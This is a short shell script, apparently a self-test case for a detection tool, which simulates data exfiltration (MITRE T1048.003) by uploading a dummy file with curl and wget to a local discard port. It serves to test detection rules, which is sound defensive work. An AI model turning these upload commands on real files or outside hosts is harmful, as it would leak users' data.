#!/bin/sh
# rule: File sent by a tool
# technique: T1048.003
# case: curl and wget send a file
# needs: curl

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
echo text > file
curl -s -m 1 -F 'data=@file' http://127.0.0.1:9/
curl -s -m 1 -T file http://127.0.0.1:9/
command -v wget >/dev/null && timeout 1 wget -q -t 1 --post-file=file http://127.0.0.1:9/
true
